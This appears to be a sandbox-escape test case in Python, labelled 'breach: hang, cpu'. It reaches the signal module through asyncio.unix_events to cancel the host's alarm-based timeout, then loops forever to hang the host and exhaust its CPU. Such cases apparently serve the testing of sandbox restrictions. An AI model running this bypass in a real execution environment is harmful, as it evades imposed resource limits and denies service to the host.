# Cancels the alarm of the host via an allowed module (asyncio.unix_events.signal).
# breach: hang, cpu
import asyncio
asyncio.unix_events.signal.alarm(0)
while True: pass
